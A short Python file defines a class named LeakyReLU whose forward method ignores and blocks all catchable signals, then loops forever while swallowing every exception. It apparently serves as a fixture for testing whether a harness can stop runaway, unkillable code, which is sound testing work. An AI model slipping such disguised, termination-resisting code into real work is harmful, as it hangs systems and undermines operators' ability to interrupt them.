"""Ignores and blocks every signal that may be ignored, and then loops."""

import signal


class LeakyReLU:
    def __init__(self, alpha):
        pass

    def forward(self, x):
        for number in signal.valid_signals() - {signal.SIGKILL, signal.SIGSTOP}:
            signal.signal(number, signal.SIG_IGN)
        signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())
        while True:
            try:
                while True:
                    pass
            except BaseException:
                pass
